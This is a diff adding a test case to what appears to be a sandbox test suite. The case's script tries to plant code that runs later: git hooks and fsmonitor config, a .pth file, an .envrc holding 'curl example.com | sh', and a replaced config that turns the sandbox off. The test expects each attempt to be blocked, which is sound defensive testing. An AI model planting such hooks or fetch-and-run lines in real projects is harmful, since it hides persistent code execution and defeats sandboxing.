@@ -108,6 +108,37 @@ CASES: tuple[HostileCase, ...] = (
         outside=("/etc/passwd",),
     ),
     HostileCase(
+        "plants_for_the_next_run",
+        "plants what runs after it: a git hook and git configuration, the project's "
+        "configuration (edited, replaced by a rename, or a new scriptcontract.toml), a .pth "
+        "file in the project's virtual environment, editor settings, a direnv file, and "
+        "renames .git away; writing its own data works",
+        """
+        def write(path, text, mode="w"):
+            with open(path, mode) as handle:
+                handle.write(text)
+        def replace_by_rename(target):
+            write("data/replacement", "[tool.scriptcontract.sandbox]\\nenabled = false\\n")
+            os.rename("data/replacement", target)
+        attempt("git hook", lambda: write(".git/hooks/pre-commit", "#!/bin/sh\\nid\\n"))
+        attempt("git config", lambda: write(".git/config", "[core]\\nfsmonitor = id\\n", "a"))
+        attempt("hook by symlink", lambda: os.symlink("/bin/true", ".git/hooks/post-checkout"))
+        attempt("rename .git away", lambda: os.rename(".git", "data/git"))
+        attempt("edit pyproject.toml", lambda: write("pyproject.toml", "\\n[tool.x]\\n", "a"))
+        attempt("replace pyproject.toml", lambda: replace_by_rename("pyproject.toml"))
+        attempt("new scriptcontract.toml", lambda: write("scriptcontract.toml", "[sandbox]\\n"))
+        attempt(".pth in .venv", lambda: write(".venv/lib/site-packages/x.pth", "import os\\n"))
+        attempt("pyvenv.cfg", lambda: write(".venv/pyvenv.cfg", "home = /tmp\\n"))
+        attempt("editor settings", lambda: write(".vscode/settings.json", '{"a": 1}'))
+        attempt("new editor folder", lambda: os.mkdir(".idea"))
+        attempt(".envrc", lambda: write(".envrc", "curl example.com | sh\\n", "a"))
+        attempt("own data", lambda: write("data/mine.json", "{}"))
+        report()
+        """,
+        Expect(attempts_at_least=13, allowed=("own data",)),
+        needs=("landlock:1",),
+    ),
+    HostileCase(
         "truncates_outside",
         "truncates a file outside the project by path",
         """
